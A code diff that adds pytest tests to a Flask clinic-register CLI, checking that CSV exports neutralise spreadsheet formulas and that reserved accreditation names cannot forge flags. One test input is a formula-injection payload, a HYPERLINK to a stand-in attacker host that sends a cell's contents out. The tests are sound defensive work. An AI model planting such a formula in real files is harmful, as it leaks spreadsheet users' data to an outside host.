@@ -201,3 +201,43 @@ def test_a_spreadsheet_saved_file_with_bom_and_crlf_is_accepted(app: Flask, runn
     assert result.exit_code == 0, result.output
     assert clinic_count(app) == len(read_rows())
     assert export_text(runner, tmp_path) == CLINICS_CSV.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("name", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+        ("description", "@SUM(1+1)"),
+        ("medical_director", "-2+3"),
+        ("phone", "+1 312 555 0100"),
+    ],
+)
+def test_export_neutralises_spreadsheet_formulas_and_imports_them_back_unchanged(
+    app: Flask, runner: FlaskCliRunner, tmp_path, column: str, value: str
+) -> None:
+    rows = read_rows()[:2]
+    rows[0][column] = value
+    assert runner.invoke(args=["clinics", "import", str(write_rows(tmp_path / "in.csv", rows))]).exit_code == 0
+    exported = export_text(runner, tmp_path)
+    (cell,) = [row[column] for row in csv.DictReader(io.StringIO(exported)) if row["clinic_id"] == rows[0]["clinic_id"]]
+    assert cell == "'" + value  # a spreadsheet shows this as text
+    again = runner.invoke(args=["clinics", "import", str(tmp_path / "export.csv")])
+    assert "0 added, 0 changed, 2 unchanged" in again.output
+    assert export_text(runner, tmp_path) == exported
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        ("accreditation_bodies", "Verified", "'verified' is not a body's name"),
+        ("other_society_memberships", "ESHRE;sart", "SART has its own column"),
+    ],
+)
+def test_reserved_accreditation_names_cannot_forge_the_registers_flags(
+    seeded_app: Flask, tmp_path, column: str, value: str, message: str
+) -> None:
+    rows = read_rows()[:1]
+    rows[0][column] = value
+    result = seeded_app.test_cli_runner().invoke(args=["clinics", "import", str(write_rows(tmp_path / "x.csv", rows))])
+    assert result.exit_code == 1
+    assert f"line 2, {column}: {message}" in result.output
